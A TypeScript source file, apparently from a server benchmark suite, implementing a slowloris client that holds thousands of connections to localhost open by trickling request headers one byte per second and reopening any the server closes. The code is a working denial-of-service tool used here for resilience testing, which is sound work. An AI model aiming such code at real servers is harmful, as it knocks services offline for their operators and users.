/**
 * The slowloris suite's attacker, a process of its own (slowloris.ts starts
 * it): keeps --count connections each sending a request's headers one byte
 * per second and never ending them. A connection the server closes is opened
 * again 50 ms later, as the attack tools do. Runs until SIGTERM or --max-seconds.
 *
 *     node dist/bench/slowloris-client.js --port 8000 --count 2000 [--max-seconds 120]
 *
 * Prints JSON lines: {"event":"ready",...} once --count connections are open
 * (or every attempt has failed), {"event":"end",...} when it stops.
 */
import { connect, type Socket } from 'node:net';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    port: { type: 'string' },
    count: { type: 'string' },
    'max-seconds': { type: 'string', default: '120' },
  },
});
const port = Number(values.port);
const count = Number(values.count);
const maxSeconds = Number(values['max-seconds']);
if (!(port > 0) || !(count > 0) || !(maxSeconds > 0)) {
  process.stderr.write('usage: slowloris-client.js --port PORT --count N [--max-seconds S]\n');
  process.exit(2);
}

/** Connections being opened at once: more would overflow the server's listen backlog. */
const IN_FLIGHT = 64;
/** Each tick writes to one slice of the connections, so that each gets a byte a second, spread over the second. */
const TICK_MS = 50;
const SLICES = 1000 / TICK_MS;
/** The header stream: a request line, Host, then one header line after another, forever. */
const START = `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`;
const FILLER = 'X-Slow: a\r\n';
const byteAt = (n: number) => (n < START.length ? START[n]! : FILLER[(n - START.length) % FILLER.length]!);

interface Slow {
  socket: Socket;
  slice: number;
  sent: number;
  connected: boolean;
}

const started = Date.now();
const open = new Set<Slow>();
let opened = 0;
let connectFailures = 0;
let closedByServer = 0;
let ending = false;
let ready = false;
let tick = 0;
/** Connections to open (again): each entry is one. */
let wanted = count;
let connecting = 0;
const statuses = new Map<string, number>();
const errors = new Map<string, number>();

function print(event: string, extra: Record<string, unknown>): void {
  process.stdout.write(`${JSON.stringify({ event, open: open.size, opened, closedByServer, connectFailures, ...extra })}\n`);
}

function bump(map: Map<string, number>, key: string): void {
  map.set(key, (map.get(key) ?? 0) + 1);
}

/** Opens connections while some are wanted, IN_FLIGHT at a time. */
function pump(): void {
  while (!ending && wanted > 0 && connecting < IN_FLIGHT) {
    wanted--;
    connecting++;
    const slow: Slow = { socket: connect({ host: '127.0.0.1', port }), slice: opened % SLICES, sent: 0, connected: false };
    slow.socket.setNoDelay(true);
    slow.socket.on('connect', () => {
      slow.connected = true;
      connecting--;
      opened++;
      open.add(slow);
      pump();
      if (!ready && open.size >= count) {
        ready = true;
        print('ready', { seconds: (Date.now() - started) / 1000 });
      }
    });
    slow.socket.on('data', (d: Buffer) => {
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(d.toString('latin1', 0, 16));
      if (status) bump(statuses, status[1]!);
    });
    slow.socket.on('error', (err: NodeJS.ErrnoException) => bump(errors, err.code ?? err.message));
    slow.socket.on('close', () => {
      if (ending) return;
      if (slow.connected) {
        open.delete(slow);
        closedByServer++;
      } else {
        connecting--;
        connectFailures++;
      }
      wanted++;
      // open it again on the next tick, as the attack does (not at once: no spinning against a server that refuses everything)
      setTimeout(pump, TICK_MS);
    });
  }
}

function end(reason: string): void {
  if (ending) return;
  ending = true;
  print('end', { reason, statuses: Object.fromEntries(statuses), errors: Object.fromEntries(errors), seconds: (Date.now() - started) / 1000 });
  for (const s of open) s.socket.destroy();
  process.exit(0);
}

process.on('SIGTERM', () => end('SIGTERM'));
process.on('SIGINT', () => end('SIGINT'));
setTimeout(() => end(`--max-seconds ${maxSeconds}`), maxSeconds * 1000);
setInterval(() => {
  const slice = tick++ % SLICES;
  for (const s of open) if (s.slice === slice && s.socket.writable) s.socket.write(byteAt(s.sent++));
}, TICK_MS);
pump();
